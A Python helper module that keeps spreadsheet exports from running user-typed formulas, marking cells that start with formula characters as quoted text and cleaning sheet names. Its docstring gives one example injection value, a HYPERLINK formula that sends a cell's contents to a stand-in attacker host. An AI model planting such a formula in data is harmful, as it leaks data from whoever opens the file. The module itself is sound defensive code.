"""Spreadsheets that never run what a user typed.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return) is a formula to Excel and LibreOffice: a partner named
``=HYPERLINK("http://evil.example/?"&A1)`` would run when a donor opens the report.
openpyxl even stores such a string as a formula. Every export that carries user
text passes its cells through here, so they are written as text, shown as typed.
"""

FORMULA_STARTS = frozenset("=+-@\t\r")


def looks_like_formula(value) -> bool:
    return isinstance(value, str) and value[:1] in FORMULA_STARTS


def as_text(cell):
    """Store the cell as text, marked with the quote prefix, if a spreadsheet would run it."""
    if looks_like_formula(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def neutralise_formulas(book) -> None:
    """Every text cell of every sheet of ``book`` (an openpyxl workbook, not write-only) as text."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                as_text(cell)


def sheet_title(title: str, taken) -> str:
    """``title`` as a sheet's name: at most 31 characters, none of ``[]:*?/\\``, and unlike
    the names in ``taken`` (Excel compares them ignoring case)."""
    import re

    base = re.sub(r"[\[\]:*?/\\]", " ", str(title)).strip().strip("'") or "Sheet"
    name, number = base[:31], 2
    lowered = {t.lower() for t in taken}
    while name.lower() in lowered:
        suffix = f" ({number})"
        name, number = base[:31 - len(suffix)] + suffix, number + 1
    return name
